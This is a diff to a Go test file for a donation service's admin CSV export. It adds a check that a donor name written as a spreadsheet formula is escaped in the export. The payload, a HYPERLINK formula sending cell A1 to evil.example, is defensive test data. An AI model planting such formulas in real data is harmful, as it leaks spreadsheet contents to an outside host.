@@ -192,7 +192,10 @@ func TestAdminDonationsSearchesEveryDonor(t *testing.T) {
 func TestJobsUIAndExportsAreForAdminsOnly(t *testing.T) {
 	t.Parallel()
 	m := setupAdmin(t)
-	donor := m.donor(t)
+	// A donor whose name is a spreadsheet formula.
+	in := creds(fmt.Sprintf("formula-%d@example.org", time.Now().UnixNano()))
+	in["i"].(map[string]any)["name"] = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	donor := m.srv.client.As(m.srv.client.Do(t, registerOp, in).NoErrors(t).String("register", "token"))
 	gift := m.give(t, donor, m.addCard(t, donor, "pm_card_visa"), 2550)
 	m.wait(t, donor, gift, "SUCCEEDED")
 	donorToken := donor.Token
@@ -225,7 +228,8 @@ func TestJobsUIAndExportsAreForAdminsOnly(t *testing.T) {
 		time.Now().Add(-time.Hour).UTC().Format(time.RFC3339), adminToken)
 	lines := strings.Split(strings.TrimSpace(body), "\n")
 	if code != http.StatusOK || len(lines) != 2 || !strings.HasPrefix(lines[0], "donation_id,created_at,settled_at,status,amount,") ||
-		!strings.HasPrefix(lines[1], rawID(t, gift)+",") || !strings.Contains(lines[1], ",SUCCEEDED,25.50,USD,") {
+		!strings.HasPrefix(lines[1], rawID(t, gift)+",") || !strings.Contains(lines[1], ",SUCCEEDED,25.50,USD,") ||
+		!strings.Contains(lines[1], `,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`) {
 		t.Errorf("donations.csv: %d\n%s", code, body)
 	}
 	if code, body := get("/admin/exports/donations.csv?status=FAILED", adminToken); code != http.StatusOK || strings.Count(body, "\n") != 1 {
